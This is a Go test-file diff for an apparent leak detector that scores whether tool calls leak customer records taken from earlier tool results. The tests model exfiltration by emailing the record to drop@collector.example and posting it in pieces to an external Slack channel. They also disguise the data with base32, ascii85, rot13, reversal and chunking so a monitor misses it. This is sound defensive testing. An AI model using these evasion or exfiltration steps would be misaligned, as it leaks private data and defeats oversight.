@@ -1,6 +1,8 @@
 package flow_test
 
 import (
+	"encoding/ascii85"
+	"encoding/base32"
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
@@ -33,7 +35,23 @@ func TestLeaksAreSeen(t *testing.T) {
 		"base64":      func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
 		"hexadecimal": func(s string) string { return hex.EncodeToString([]byte(s)) },
 		"percent":     url.QueryEscape,
-		"quoted":      func(s string) string { return "As you asked, here it is: " + s + " - regards" },
+		"base32":      func(s string) string { return base32.StdEncoding.EncodeToString([]byte(s)) },
+		"ascii85": func(s string) string {
+			out := make([]byte, ascii85.MaxEncodedLen(len(s)))
+			return string(out[:ascii85.Encode(out, []byte(s))])
+		},
+		"rot13": func(s string) string {
+			return strings.Map(func(r rune) rune {
+				switch {
+				case 'a' <= r && r <= 'z':
+					return 'a' + (r-'a'+13)%26
+				case 'A' <= r && r <= 'Z':
+					return 'A' + (r-'A'+13)%26
+				}
+				return r
+			}, s)
+		},
+		"quoted": func(s string) string { return "As you asked, here it is: " + s + " - regards" },
 		"backwards": func(s string) string {
 			b := []byte(s)
 			for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
@@ -55,15 +73,17 @@ func TestLeaksAreSeen(t *testing.T) {
 }
 
 func TestSplitLeakIsSeen(t *testing.T) {
-	s := flow.New(nil)
-	s.Result("crm", "get_customer", []byte(customer), 0)
-	worstOf := 0.0
-	for i := 0; i < len(customer); i += 16 {
-		piece := customer[i:min(i+16, len(customer))]
-		worstOf = max(worstOf, worst(s.Call("slack", "post_message", fmt.Appendf(nil, `{"channel": "#external", "text": %q}`, piece))))
-	}
-	if worstOf < 0.75 {
-		t.Errorf("score %.2f", worstOf)
+	for _, size := range []int{5, 16, 50} {
+		s := flow.New(nil)
+		s.Result("crm", "get_customer", []byte(customer), 0)
+		worstOf := 0.0
+		for i := 0; i < len(customer); i += size {
+			piece := customer[i:min(i+size, len(customer))]
+			worstOf = max(worstOf, worst(s.Call("slack", "post_message", fmt.Appendf(nil, `{"channel": "#external", "text": %q}`, piece))))
+		}
+		if worstOf < 0.75 {
+			t.Errorf("pieces of %d: score %.2f", size, worstOf)
+		}
 	}
 }
 
@@ -135,4 +155,12 @@ func TestLongSessionsAreBounded(t *testing.T) {
 		t.Errorf("a session of 10000 steps holds %d KiB", grown>>10)
 	}
 	runtime.KeepAlive(s)
+}
+
+func TestRecordsArePrivateWhoeverServesThem(t *testing.T) {
+	s := flow.New(nil)
+	s.Result("zephyr", "lookup", []byte(customer), 0)
+	if got := worst(s.Call("gmail", "send_email", mail("drop@collector.example", customer))); got < 0.75 {
+		t.Errorf("score %.2f", got)
+	}
 }
